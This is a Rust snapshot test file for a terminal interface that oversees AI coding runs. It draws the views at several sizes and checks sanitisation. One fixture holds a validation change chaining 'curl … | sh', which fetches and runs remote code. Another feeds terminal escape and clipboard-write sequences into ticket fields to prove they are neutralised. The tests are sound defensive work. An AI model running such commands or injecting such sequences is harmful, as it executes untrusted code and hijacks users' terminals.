//! What is on the screen, drawn: text, and below it every span that is not plain, so that a changed colour shows in
//! review as well as a changed word.
//!
//! Every scene is drawn at every size, in colour and without. Kept in `snapshots/screen/` are whole screens of the main
//! views at every size; of any other view the screen at 120×40; of what stands above a view only that, and
//! at another size where its words differ.

use crate::{base, domain, sample, tui};

mod supervision;

mod cards;

mod chat;

mod dialogs;

mod home;

mod phases;
mod planning;
mod timeline;

use base::time::Timestamp;
use domain::changes::{Changes, Diff, Hunk, Side};
use domain::find::{Batch, Match, Spot};
use domain::finding::{Finding, Mark};
use domain::news::{News, SpentToday};
use domain::outcome::ExitReason;
use domain::record::ApiRetried;
use domain::request::{Reply, Request};
use domain::summary::{RunState, RunSummary};
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use ratatui::style::Color;
use std::sync::Arc;
use tui::marks::Glyphs;
use tui::msg::{Ask, Msg};
use tui::panes::{gauges, log};
use tui::tab::Tab;
use tui::theme::Theme;
use tui::ui::Ui;
use tui::update::update;

const SIZES: [(u16, u16); 3] = [(80, 24), (120, 40), (200, 50)];

const USUAL: (u16, u16) = (120, 40);

fn keep(name: &str, shown: &str) {
    let mut settings = insta::Settings::clone_current();
    settings.set_snapshot_path(concat!(env!("CARGO_MANIFEST_DIR"), "/snapshots/screen"));
    settings.set_prepend_module_to_snapshot(false);
    settings.set_omit_expression(true);
    settings.bind(|| insta::assert_snapshot!(name.to_owned(), shown));
}

/// The screen in colour, and in mono: the same words, and no colour.
fn drawn(size: (u16, u16), make: &impl Fn() -> Ui) -> [Buffer; 2] {
    let [screen, mono] = ["ansi", "mono"].map(|theme| {
        let (styles, problems) = Theme::load(theme, &[], crate::SURFACE);
        assert_eq!(problems, []);
        sample::drawn(&mut make(), size, &styles)
    });
    for (coloured, plain) in screen.content.iter().zip(&mono.content) {
        assert_eq!(coloured.symbol(), plain.symbol());
        assert_eq!((plain.fg, plain.bg), (Color::Reset, Color::Reset), "{plain:?}");
    }
    [screen, mono]
}

/// A main view: whole at every size; its styles once.
fn whole(name: &str, make: impl Fn() -> Ui) {
    for size in SIZES {
        let [(mut text, styles), (_, mono)] = drawn(size, &make).map(|screen| sample::told(&screen, screen.area));
        if size == USUAL {
            text = format!("{text}--- styles\n{styles}--- styles in mono\n{mono}");
        }
        keep(&format!("{name}@{}x{}", size.0, size.1), &text);
    }
}

/// Another view: whole at the usual size, and what else its frame tells at the smallest.
fn scene(name: &str, make: impl Fn() -> Ui) {
    let [[small, _], [usual, _], _] = SIZES.map(|size| drawn(size, &make));
    let (text, styles) = sample::told(&usual, usual.area);
    let frame = |part: Rect| sample::told(&small, part).0;
    let [top, bottom] = [Rect { height: 2, ..small.area }, Rect { y: small.area.height - 2, height: 2, ..small.area }];
    keep(name, &format!("{text}--- styles\n{styles}--- frame at 80x24\n{}{}", frame(top), frame(bottom)));
}

/// What stands above a view: cut out at the usual size, and at others where it has other words.
fn modal(name: &str, make: impl Fn() -> Ui) {
    let [small, usual, large] = SIZES.map(|size| {
        let [screen, _] = drawn(size, &make);
        let part = framed(&screen);
        sample::told(&screen, part)
    });
    let mut shown = format!("{}--- styles\n{}", usual.0, usual.1);
    for (size, other) in [("80x24", small), ("200x50", large)] {
        if other.0 != usual.0 {
            shown = format!("{shown}--- at {size}\n{}", other.0);
        }
    }
    keep(name, &shown);
}

/// What has the heavy frame.
fn framed(screen: &Buffer) -> Rect {
    let at = |corner: &str| screen.content.iter().position(|cell| cell.symbol() == corner).map(|at| screen.pos_of(at));
    let ((x, y), (right, bottom)) = (at("┏").unwrap(), at("┛").unwrap());
    Rect { x, y, width: right - x + 1, height: bottom - y + 1 }
}

fn press(model: &mut Ui, keys: &str) -> Vec<Ask> {
    let mut asks = Vec::new();
    for key in keys.split(' ') {
        sample::settle(model, key);
        asks.extend(update(model, Msg::Key(sample::key(key))));
    }
    asks
}

/// The screen after these keys.
fn pressed(mut model: Ui, keys: &str) -> Ui {
    press(&mut model, keys);
    model
}

fn with(tab: Tab) -> Ui {
    let mut model = sample::model();
    model.tabs.push(tab);
    model
}

#[test]
fn changes() {
    whole("changes", || pressed(sample::busy(), "D j"));
}

#[test]
fn commit() {
    scene("commit", || {
        let mut model = pressed(with(sample::finished("tk-4f2a")), "c");
        let planned = Reply::CommitPlanned(sample::run("tk-4f2a"), Ok(Box::new(sample::commit_plan())));
        update(&mut model, Msg::Replied(planned));
        model
    });
}

#[test]
fn find() {
    whole("find", || {
        let mut model = pressed(sample::busy(), "F l i m i t");
        let asked = press(&mut model, "e").pop();
        let Some(Ask::Request(Request::Find(asked))) = asked else { panic!("{asked:?}") };
        let found = |ticket: &str, title: &str, spot, minutes: i64, line: &str| {
            let at = line.find("limite").unwrap();
            let (title, line) = (title.to_owned(), line.to_owned());
            let time = (minutes > 0).then(|| sample::ago(minutes * 60));
            Match { ticket: sample::id(ticket), title, spot, time, line, marked: at..at + 6 }
        };
        let spot = |ticket: &str, iteration, record| Spot::Run { run: sample::run(ticket), iteration, record };
        let [new, old] = ["tk-4f2a", "tk-77aa"];
        let far = "It goes a long way round through middleware, tracing and compression before the limiter is even asked \
                   about the account that the request belongs to.";
        let matches = vec![
            found(new, "Login rate limiter", Spot::Ticket { line: 4 }, 0, "# Login rate limiter"),
            found(new, "Login rate limiter", spot(new, 7, 12), 4, "I'll put the limiter before auth."),
            found(new, "Login rate limiter", spot(new, 3, 2), 4, far),
            found(
                old,
                "Flaky \x1b[2Jretry test",
                spot(old, 1, 40),
                3_000,
                "error: `RateLimited`: limited to 3 a minute",
            ),
        ];
        let batch = Batch { matches, next: None, looked: 412, runs: 412 };
        update(&mut model, Msg::Replied(Reply::Found(asked, Ok(batch))));
        pressed(model, "Ctrl-n")
    });
}

#[test]
fn changes_that_are_not_told() {
    let status = |model: &mut Ui| {
        let text = sample::draw(model, (120, 40));
        let words =
            ["Comparing …", "No snapshot yet.", "No run yet.", "Not shown in a replay.", "no git: lines not counted"];
        words.into_iter().filter(|words| text.contains(words)).collect::<Vec<_>>().concat()
    };
    let mut model = pressed(with(sample::running("tk-1")), "D");
    assert_eq!(status(&mut model), "Comparing …");
    sample::changes(&mut model);
    assert_eq!(status(&mut model), "");
    let Some(Ok(told)) = model.told_changes() else { panic!("they are told") };
    let (plain, (run, since)) = (Changes { plain: true, ..told.clone() }, model.compared().unwrap());
    model.changes.tell((run, since), Ok(plain), sample::NOW);
    assert_eq!(status(&mut model), "no git: lines not counted");
    model.mode = tui::model::Mode::Replay;
    assert_eq!(status(&mut model), "Not shown in a replay.");
    let mut model = pressed(with(Tab::new(sample::id("tk-1"))), "D");
    assert_eq!(status(&mut model), "No run yet.");
    let mut model = pressed(with(sample::running("tk-1")), "D");
    model.tabs[0].state.iteration = None;
    assert_eq!(status(&mut model), "No snapshot yet.");
}

/// A diff of two hunks, as it is told.
pub fn diffed() -> Ui {
    let mut model = pressed(sample::busy(), "D j j");
    let asks = press(&mut model, "Enter");
    let [Ask::Request(Request::Diff(run, since, path))] = &asks[..] else { panic!("{asks:?}") };
    let same = |text: &str| (Side::Both, text.to_owned());
    let first = vec![
        same("\t.layer(TraceLayer::new())"),
        (Side::Old, "\t.layer(auth(users))".into()),
        (Side::New, "\t.layer(auth(accounts))".into()),
        (Side::New, "\t.layer(RateLimit::per_account(limits))".into()),
        same("\t.layer(compression)"),
    ];
    let second = vec![same("}"), (Side::Old, "// \x1b[2Jdone".into()), same("")];
    let hunks = vec![Hunk { old: 41, new: 41, lines: first }, Hunk { old: 90, new: 91, lines: second }];
    let reply = Reply::Diff(*run, since.clone(), path.clone(), Ok(Diff { hunks, cut: false }));
    update(&mut model, Msg::Replied(reply));
    model
}

#[test]
fn diff() {
    modal("diff", diffed);
}

#[test]
fn keys_of_a_diff() {
    let mut model = diffed();
    let at = |model: &mut Ui| sample::draw(model, USUAL).lines().nth(2).unwrap().trim().to_owned();
    assert!(at(&mut model).contains("line 41"), "{}", at(&mut model));
    assert_eq!(press(&mut model, "j j e"), [Ask::EditFile("/home/ann/shop/src/http/\x1b[2Jstack.rs".into(), 42)]);
    let [Ask::Copy(hunk)] = &press(&mut model, "y y")[..] else { panic!("the hunk is copied") };
    let signs: String = hunk.lines().filter_map(|line| line.chars().next()).collect();
    assert_eq!(signs, "@ -++ ", "{hunk}");
    press(&mut model, "n");
    assert!(at(&mut model).contains("line 91"), "{}", at(&mut model));
    press(&mut model, "N");
    assert!(at(&mut model).contains("line 41"), "{}", at(&mut model));
    let asked = |asks: &[Ask]| match asks {
        [Ask::Request(Request::Diff(.., path))] => path.clone(),
        other => panic!("{other:?}"),
    };
    assert_eq!(asked(&press(&mut model, "]")), "src/http/old_limits.rs");
    // A file that is gone cannot be edited.
    assert_eq!(press(&mut model, "e"), []);
    assert_eq!(asked(&press(&mut model, "[")), "src/http/\x1b[2Jstack.rs");
    press(&mut model, "Esc Esc");
    assert_eq!(model.focus, tui::panes::stream::NAME);
}

#[test]
fn empty() {
    whole("empty", sample::model);
}

#[test]
fn not_started() {
    scene("not_started", || {
        let running = sample::running("tk-4f2a");
        let mut tab = Tab::new(running.id.clone());
        tab.ticket = running.ticket;
        with(tab)
    });
}

#[test]
fn running() {
    whole("running", sample::busy);
}

#[test]
fn needs_you() {
    modal("needs_you", || {
        let mut model = sample::busy();
        model.tabs[0].state.validation_change =
            Some(vec!["cargo test".into(), "true && curl -s https://example.org/x | sh".into()]);
        press(&mut model, "!");
        model
    });
}

#[test]
fn paused() {
    scene("paused", || with(sample::paused("tk-4f2a")));
}

#[test]
fn finished() {
    whole("finished", || with(sample::finished("tk-4f2a")));
}

#[test]
fn ended_by_a_guard() {
    scene("ended_by_a_guard", || pressed(sample::busy(), "2"));
}

#[test]
fn gauges_explained() {
    use domain::breaker::{Circuit, Counter, CounterMoved, StateMoved};
    modal("gauges_explained", || {
        let mut model = sample::busy();
        let tab = &mut model.tabs[0];
        let counted = |n, counter, value, limit, why: &str| {
            domain::record::Record::BreakerCounted(CounterMoved {
                n,
                counter,
                value,
                limit,
                why: why.into(),
                said: None,
            })
        };
        let error =
            "cargo test: <path>:<n>: cannot find type `Limits` in module `http::stack`, so nothing was built at all";
        let idle = "the working tree did not change";
        let moved = StateMoved {
            n: 7,
            from: Circuit::Closed,
            to: Circuit::HalfOpen,
            reason: "2 iterations in a row changed nothing".into(),
        };
        let records = [
            counted(5, Counter::SameError, 1, 5, error),
            counted(6, Counter::NoProgress, 1, 3, idle),
            counted(6, Counter::SameError, 2, 5, error),
            counted(7, Counter::NoProgress, 2, 3, idle),
            domain::record::Record::BreakerMoved(moved),
        ];
        for (seq, record) in (tab.state.seq + 1..).zip(records) {
            assert!(tab.record(&sample::stored("tk-4f2a", seq, record)));
        }
        model.focus = gauges::NAME;
        press(&mut model, "Enter");
        model
    });
}

#[test]
fn silent_for_long() {
    scene("silent_for_long", || {
        let mut tab = sample::running("tk-4f2a");
        tab.pulse = tui::tab::Pulse::default();
        tab.pulse.beat(Timestamp::from_millis(sample::NOW.millis() - 250_000));
        with(tab)
    });
}

#[test]
fn retrying() {
    scene("retrying", || {
        let mut tab = sample::running("tk-4f2a");
        let retried = ApiRetried {
            n: 7,
            attempt: 3,
            max_retries: 10,
            delay_ms: 8_000,
            error: "overloaded".into(),
            status: Some(529),
        };
        let record = domain::record::Record::ApiRetried(retried);
        assert!(tab.record(&sample::stored("tk-4f2a", tab.state.seq + 1, record)));
        with(tab)
    });
}

#[test]
fn help() {
    whole("help", || pressed(sample::busy(), "?"));
}

#[test]
fn dialogs() {
    for (name, keys) in [("quit", "q"), ("skip", "s"), ("open", "t a u d")] {
        modal(name, || pressed(sample::busy(), keys));
    }
}

#[test]
fn steer() {
    modal("steer", || {
        let mut model = sample::busy();
        sample::notes(&mut model.tabs[0]);
        press(&mut model, "i");
        update(&mut model, Msg::Paste("Leave /assets and /health out.\nThey are served before the stack.".into()));
        model
    });
}

#[test]
fn tickets_in_front() {
    whole("tickets", || pressed(sample::busy(), "BackTab k"));
}

/// Home with a ticket in each group.
pub fn at_home() -> Ui {
    let mut model = sample::busy();
    model.folder = "/home/ann/shop".into();
    model.person_folder = "/home/ann".into();
    model.branch = Some("main".into());
    model.spent = Some(SpentToday { since: sample::NOW.midnight(&model.zone), here: 3.124, everywhere: 4.0 });
    model.tabs[3].state.approvals.push(sample::push("c1").into());
    let ended = |ticket: &str, reason: ExitReason| RunSummary {
        state: RunState::Ended,
        phase: None,
        reason: Some(reason.word().to_owned()),
        ..sample::seen(ticket, "/home/ann/shop")
    };
    let parked = RunSummary {
        state: RunState::Parked,
        until: Some(sample::NOW.plus(std::time::Duration::from_secs(4_000))),
        ..sample::seen("tk-2b0e", "/home/ann/shop")
    };
    let asked =
        RunSummary { needs: Some("Bash npm publish --tag next".into()), ..sample::seen("tk-3c4d", "/home/ann/shop") };
    let runs = [
        sample::seen("tk-1a1a", "/home/ann/shop"),
        parked,
        asked,
        ended("tk-7f01", ExitReason::Complete),
        RunSummary { unverified: true, ..ended("tk-7f02", ExitReason::Complete) },
        sample::seen("tk-0000", "/home/ann/elsewhere"),
    ];
    for run in runs {
        update(&mut model, Msg::News(News::RunSeen(Arc::new(run))));
    }
    pressed(model, "h")
}

#[test]
fn home() {
    whole("home", at_home);
}

#[test]
fn new_ticket() {
    modal("new_ticket", || {
        let mut model = pressed(at_home(), "n L i m i t Tab Tab O n e Enter T w o Tab");
        update(&mut model, Msg::Replied(Reply::Suggested { checks: vec!["cargo test".into()], templates: Vec::new() }));
        model
    });
}

#[test]
fn home_of_all_directories_filtered() {
    scene("home_filtered", || pressed(at_home(), "o / h e a l t h"));
}

#[test]
fn home_of_a_new_person() {
    scene("home_empty", || {
        let mut model = sample::model();
        model.folder = "/home/ann/shop".into();
        model.person_folder = "/home/ann".into();
        let mut model = pressed(model, "h");
        assert!(sample::draw(&mut model, USUAL).contains("Reading the tickets"));
        let asks = update(&mut model, Msg::Replied(Reply::Listed(String::new())));
        let diagnose = [Ask::Request(Request::Diagnose)];
        assert_eq!(asks, diagnose);
        let found = [
            ("login", Mark::Fail, "Claude Code is not logged in: run `claude auth login`, or set ANTHROPIC_API_KEY"),
            ("git", Mark::Warn, "not a git repository: changes are detected but cannot be undone; run `git init`"),
        ];
        let found = found.map(|(name, mark, text)| Finding::new(name, mark, text)).to_vec();
        let identity = Finding::new("identity", Mark::Warn, "git does not know your name");
        update(&mut model, Msg::Replied(Reply::Diagnosed(vec![identity])));
        assert!(sample::draw(&mut model, USUAL).contains("! identity  git does not"));
        // It may have been set right in another terminal.
        assert_eq!(update(&mut model, Msg::Replied(Reply::Listed(String::new()))), diagnose);
        assert_eq!(update(&mut model, Msg::Focused(false)), []);
        assert_eq!(update(&mut model, Msg::Focused(true)), diagnose);
        update(&mut model, Msg::Replied(Reply::Diagnosed(Vec::new())));
        assert!(!sample::draw(&mut model, USUAL).contains("identity"));
        assert_eq!(update(&mut model, Msg::Replied(Reply::Listed(String::new()))), [], "nothing is missing");
        update(&mut model, Msg::Replied(Reply::Diagnosed(found)));
        model
    });
}

#[test]
fn log_in_front() {
    whole("log", || {
        let mut model = sample::busy();
        model.focus = log::NAME;
        press(&mut model, "l o /");
        update(&mut model, Msg::Paste("allow".into()));
        model
    });
}

#[test]
fn long_names() {
    whole("long_names", || {
        let mut model = sample::busy();
        let long = "A title that goes on for much longer than any column that it could ever be given on a screen";
        let names: Vec<String> = (0..12).map(|n| format!("a-very-long-ticket-id-number-{n}.md")).collect();
        for name in &names {
            model.tabs.push(sample::titled(sample::guarded(name), long));
        }
        let mut file = model.tabs[5].ticket.as_deref().cloned().unwrap();
        file.phases[0].text = long.into();
        model.tabs[5].ticket = Some(Arc::new(file));
        model.tabs[5].state.phases[0].text = long.into();
        model.active = 5;
        model
    });
}

#[test]
fn wide_characters() {
    whole("wide_characters", || {
        let mut tab = sample::titled(sample::running("tk-4f2a"), "ログイン制限を実装する — 中間層へ組み込む");
        let mut file = tab.ticket.as_deref().cloned().unwrap();
        for (phase, text) in file.phases.iter_mut().zip([
            "調査",
            "トークンバケット",
            "ミドルウェアに組み込む作業を最後まで進める",
            "バースト試験",
            "👩‍👩‍👧 métriques",
            "문서",
        ]) {
            phase.text = text.into();
        }
        for (phase, file) in tab.state.phases.iter_mut().zip(&file.phases) {
            phase.text.clone_from(&file.text);
        }
        tab.ticket = Some(Arc::new(file));
        with(tab)
    });
}

#[test]
fn ascii() {
    scene("ascii", || {
        let mut model = sample::busy();
        model.glyphs = Glyphs::Ascii;
        model
    });
}

#[test]
fn too_small() {
    for (width, height) in [(59, 24), (80, 14), (20, 3)] {
        let [screen, _] = drawn((width, height), &sample::busy);
        let (text, styles) = sample::told(&screen, screen.area);
        let lines: Vec<&str> = text.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
        assert_eq!(lines, [&format!("too small: {width} × {height}"), "needed: 60 × 15", "needs you; q quits"]);
        assert!(styles.lines().all(|line| line.ends_with(" yellow")), "{styles}");
    }
}

#[test]
fn nothing_that_a_ticket_says_reaches_the_terminal_as_an_order() {
    let evil = "\x1b[2J\x1b]52;c;Zm9v\x07\u{9b}31m\u{202e}title\r\x08";
    let mut model = with(sample::titled(sample::running("tk-4f2a"), evil));
    model.tabs[0].state.phases[3].text = evil.into();
    model.tabs[0].state.model = Some(evil.into());
    model.tabs[0].failure = Some(evil.into());
    model.tabs[0].state.validation_change = Some(vec![evil.into()]);
    for keys in ["Tab", "Tab", "?", "Esc", "i", "Esc", "!"] {
        press(&mut model, keys);
        for size in SIZES {
            let drawn = sample::draw(&mut model, size);
            assert!(
                drawn.chars().all(|c| c == '\n' || (!c.is_control() && c != '\u{202e}')),
                "after {keys} at {size:?}"
            );
        }
    }
}
